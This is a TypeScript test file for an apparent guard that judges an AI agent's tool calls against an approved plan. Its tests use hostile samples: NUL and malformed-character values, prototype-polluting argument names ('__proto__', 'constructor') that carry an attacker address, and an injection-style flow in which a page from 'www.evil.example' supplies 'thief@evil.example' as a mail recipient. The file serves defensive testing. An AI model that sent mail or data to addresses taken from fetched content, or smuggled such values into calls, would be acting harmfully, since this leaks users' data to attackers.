import { createHash } from "node:crypto";
import { describe, expect, test } from "vitest";
import type { Json } from "../../contract/json.ts";
import type { CallRule, Slot } from "../../contract/plan.ts";
import { checkPlan } from "./check-plan.ts";
import { afterUse, judgeCall } from "./judge-call.ts";
import { openPlanned } from "./session.ts";

const digest = { sha256: (text: string) => createHash("sha256").update(text).digest("hex") };
const request = "Write a packing list named list.txt, and read what the message says.";
const text = { class: "content", type: "text" } as const;
const rules: readonly CallRule[] = [
  {
    name: "find",
    description: "Finds.",
    kind: "read",
    space: "own",
    reversible: true,
    args: { for: { class: "param", type: "text" } },
    fields: { "": "third" },
  },
  {
    name: "create_file",
    description: "Creates a file.",
    kind: "write",
    space: "own",
    reversible: true,
    args: { name: { class: "param", type: "text" }, text },
    fields: { "/id": "system" },
  },
  {
    name: "get_page",
    description: "Gets a page.",
    kind: "send",
    space: "external",
    reversible: false,
    args: { url: { class: "target", type: "url" } },
    // As if its server could be trusted with this.
    fields: { "/address": "directory" },
  },
  {
    name: "mail",
    description: "Sends mail.",
    kind: "write",
    space: "external",
    reversible: false,
    args: { to: { class: "target", type: "email" }, text },
    fields: {},
  },
];
const slots: readonly Slot[] = [
  {
    id: "list",
    tool: "create_file",
    args: { name: { kind: "literal", text: "list.txt" }, text: { kind: "compose", from: [] } },
  },
  { id: "page", tool: "get_page", args: { url: { kind: "open", why: "the message says it" } } },
  {
    id: "mail",
    tool: "mail",
    args: { to: { kind: "ref", slot: "page", path: "/address" }, text: { kind: "compose", from: [] } },
  },
];

function begin(isPlanned: boolean) {
  const checked = checkPlan({ slots, outside: "refuse" }, { request, rules, digest });
  if (checked.kind === "faults") throw new Error(checked.faults.join("; "));
  return openPlanned({ request, rules, plan: isPlanned ? checked.plan : null });
}
const create = (args: { [arg: string]: Json }) => ({ tool: "create_file", args });

describe("a call that no store could keep", () => {
  test.each<[string, { [arg: string]: Json }]>([
    ["NUL in what a model wrote", { name: "list.txt", text: "socks\0" }],
    ["half a character in what a model wrote", { name: "list.txt", text: "socks\ud800" }],
    ["NUL in a value of the plan", { name: "list.txt\0", text: "socks" }],
    ["NUL in the name of an argument", { "name\0": "list.txt", text: "socks" }],
    ["no number", { name: "list.txt", text: Number.NaN }],
  ])("is refused, with a plan and without: %s", (_, args) => {
    for (const session of [begin(true), begin(false)])
      expect(judgeCall(session, create(args))).toMatchObject({ kind: "refuse", rule: "not_trusted" });
    expect(judgeCall(begin(true), create({ name: "list.txt", text: "socks" })).kind).toBe("auto");
  });

  test("is refused as a read as well", () => {
    expect(judgeCall(begin(true), { tool: "find", args: { for: "\0" } }).kind).toBe("refuse");
  });
});

test("what a GET brought that a person permitted is no better than who wrote the address", () => {
  const session = begin(true);
  const ruling = judgeCall(session, { tool: "get_page", args: { url: "www.evil.example" } });
  expect(ruling.kind).toBe("ask");
  const after = afterUse(session, ruling, { address: "thief@evil.example" });
  expect(judgeCall(after, { tool: "mail", args: { to: "thief@evil.example", text: "Hello" } })).toMatchObject({
    kind: "ask",
    rule: "not_trusted",
  });
});

test.each(["constructor", "toString", "__proto__"])("an argument called %s is one that nobody declared", (name) => {
  const args = Object.fromEntries([...Object.entries({ name: "list.txt", text: "socks" }), [name, "thief@evil.example"]]);
  expect(judgeCall(begin(false), create(args))).toMatchObject({ kind: "ask", rule: "no_plan" });
  expect(judgeCall(begin(true), create(args))).toMatchObject({ kind: "refuse", rule: "differs_from_plan" });
});
